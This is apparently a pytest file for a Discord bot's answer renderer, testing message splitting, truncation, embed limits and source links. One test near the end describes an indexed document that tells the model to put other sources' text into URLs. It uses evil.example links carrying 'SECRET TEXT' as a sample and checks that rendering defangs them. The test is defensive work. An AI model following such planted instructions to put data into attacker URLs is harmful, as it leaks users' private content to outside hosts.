"""Rendering stays within Discord's limits and says where results came from."""

from __future__ import annotations

from pathlib import Path

from PIL import Image

from bot.discord import markdown, messages, render
from core.types import Answer, Hit, Origin


def _hit(n: int, tmp_path: Path | None = None, **kw) -> Hit:
    thumb = None
    if tmp_path is not None:
        thumb = str(tmp_path / f"t{n}.jpg")
        Image.new("RGB", (8, 8)).save(thumb, "JPEG")
    return Hit(id=f"id{n}", source=f"/data/img{n}.png", kind="image", score=0.5 - n / 100,
               thumbnail=thumb, name=f"img{n}.png", **kw)


def test_split_text_respects_limit_and_boundaries() -> None:
    text = ("word " * 900).strip() + "\n\n" + "x" * 4500
    parts = render.split_text(text, 2000)
    assert all(len(p) <= 2000 for p in parts)
    assert parts[0].endswith("word")  # cut at a word boundary, not mid-word
    assert "".join(p.replace(" ", "").replace("\n", "") for p in parts) == (
        text.replace(" ", "").replace("\n", "")
    )


def test_shorten_marks_the_cut() -> None:
    assert markdown.shorten("short", 10) == "short"
    out = markdown.shorten("alpha beta gamma delta", 12)
    assert len(out) <= 12 and out.endswith("…") and out == "alpha beta…"


def test_long_answer_is_split_then_truncated(tmp_path: Path) -> None:
    answer = Answer(text="para. " * 3000, citations=[1], sources=[_hit(1, tmp_path)],
                    provider="test")
    pieces = render.answer_pieces("why?", answer, max_thumbnails=4)
    assert len(pieces) == 1 + render.MAX_EXTRA_MESSAGES
    assert all(len(p.content) <= render.CONTENT_LIMIT for p in pieces)
    assert pieces[-1].content.endswith(messages.ANSWER_TRUNCATED)
    assert pieces[0].content.startswith("> why?\n")
    assert len(pieces[0].files) == 1 and not pieces[1].files and not pieces[1].embeds


def test_sources_cap_embeds_thumbnails_and_link_only_discord_messages(tmp_path: Path) -> None:
    link = "https://discord.com/channels/1/2/3"
    hits = [_hit(n, tmp_path) for n in range(1, 13)]
    hits[0] = _hit(0, tmp_path, origin=Origin(platform="discord", link=link))
    out = render.sources(hits, max_thumbnails=4, big=True)
    assert len(out.embeds) == render.MAX_EMBEDS and len(out.files) == 4
    assert out.embeds[0].url == link and out.embeds[1].url is None  # local paths: no link
    assert out.embeds[0].image.url == "attachment://thumb-1.jpg"
    assert out.embeds[5].image.url is None
    total = sum(len(e) for e in out.embeds)
    assert total <= 6000  # Discord's per-message embed budget
    assert out.embeds[2].footer.text == f"id {hits[2].id}"


def test_embed_text_is_bounded() -> None:
    hit = Hit(id="x", source="s" * 5000, kind="chunk", score=1.0, text="t " * 5000,
              name="n" * 1000)
    embed = render.hit_embed(1, hit, thumb=None, big=False)
    assert len(embed.title or "") <= render.EMBED_TITLE_LIMIT
    assert len(embed.description or "") <= render.EMBED_DESCRIPTION_LIMIT
    assert len(embed) <= 6000 // 10 + 100


def test_urls_in_a_model_answer_are_not_links() -> None:
    # An indexed document told the model to put the other sources' text in a URL: Discord
    # would fetch it for a link preview, while it is written and once it is final.
    text = ("The plan costs 10 [1]. More: https://evil.example/c?d=SECRET%20TEXT and "
            "<http://evil.example/x> or [here](https://evil.example/y).")
    answer = Answer(text=text, citations=[1], sources=[_hit(1)], provider="test")
    (piece,) = render.answer_pieces("q", answer, 4)
    for shown in (piece.content, render.streaming("q", text)):
        assert "://" not in shown.replace("\\://", "")
        assert "https\\://evil.example/c?d=SECRET%20TEXT" in shown
        assert "[1]" in shown


def test_streaming_view_fits_and_shows_the_latest_text() -> None:
    out = render.streaming("q", "a" * 5000 + "END")
    assert len(out) <= render.CONTENT_LIMIT and "END" in out


def test_unavailable_answer_says_so() -> None:
    answer = Answer(text="", citations=[], sources=[], provider="x", status="unavailable")
    (piece,) = render.answer_pieces("q", answer, 4)
    assert messages.ANSWER_UNAVAILABLE in piece.content
